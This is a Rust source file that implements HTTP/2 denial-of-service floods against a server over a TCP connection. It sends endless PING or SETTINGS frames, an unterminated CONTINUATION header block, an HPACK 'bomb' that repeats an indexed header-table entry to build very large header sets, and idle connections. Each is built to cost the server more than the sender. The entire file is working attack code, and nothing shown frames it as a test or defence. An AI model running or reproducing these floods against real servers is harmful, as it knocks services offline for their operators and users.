//! HTTP/2 frames (RFC 9113 section 6) that cost a server more than their sender.

use std::io;
use std::sync::atomic::{AtomicU64, Ordering};

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

/// What comes without end.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Frames {
    /// PING, each of which is answered.
    Pings,
    /// SETTINGS, likewise.
    Settings,
    /// One block of headers, in CONTINUATION frames that do not end.
    Continuation,
    /// Headers of 50 MB in 16 kB: one that is in the table of HPACK (RFC 7541), again and again.
    Bomb,
    /// Nothing: the connection is there.
    None,
}

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
/// The longest payload that a server takes without having said more.
const LONGEST: usize = 1 << 14;
const HEADERS: u8 = 1;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;
const END_HEADERS: u8 = 4;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = (payload.len() as u32).to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// `:method: POST`, `:scheme: http`, `:path: /` by their indices, then a literal that becomes entry 62 of the table, and then
/// that entry until the frame is full.
fn bomb() -> Vec<u8> {
    const VALUE: usize = 3900;
    // 127 and the rest in seven bits at a time (RFC 7541 section 5.1).
    let rest = VALUE - 127;
    let length = [0x7f, (rest & 0x7f) as u8 | 0x80, (rest >> 7) as u8];
    let mut block = [&[0x83, 0x86, 0x84, 0x40, 1, b'a'][..], &length, &[b'v'; VALUE]].concat();
    block.resize(LONGEST, 0xbe);
    block
}

impl Frames {
    /// Sends them until the connection ends. Counts each.
    pub(crate) async fn flood(self, stream: &mut TcpStream, sent: &AtomicU64) -> io::Result<()> {
        let (mut answers, mut to) = stream.split();
        to.write_all(PREFACE).await?;
        let send = async {
            for turn in 0u32.. {
                let number = 2 * turn + 1;
                let (frames, many) = match self {
                    Self::Pings => (frame(PING, 0, 0, &[7; 8]), 500),
                    Self::Settings => (frame(SETTINGS, 0, 0, &[]), 500),
                    Self::Continuation if turn == 0 => (frame(HEADERS, 0, 1, &[]), 1),
                    Self::Continuation => (frame(CONTINUATION, 0, 1, &[0; LONGEST]), 1),
                    Self::Bomb => (frame(HEADERS, END_HEADERS, number, &bomb()), 1),
                    Self::None => {
                        sent.fetch_add(1, Ordering::Relaxed);
                        return std::future::pending().await;
                    }
                };
                to.write_all(&frames.repeat(many)).await?;
                sent.fetch_add(many as u64, Ordering::Relaxed);
            }
            Ok(())
        };
        let mut buffer = vec![0; 1 << 16];
        let read = async {
            while answers.read(&mut buffer).await? != 0 {}
            Ok(())
        };
        tokio::select! {
            ended = send => ended,
            ended = read => ended,
        }
    }
}
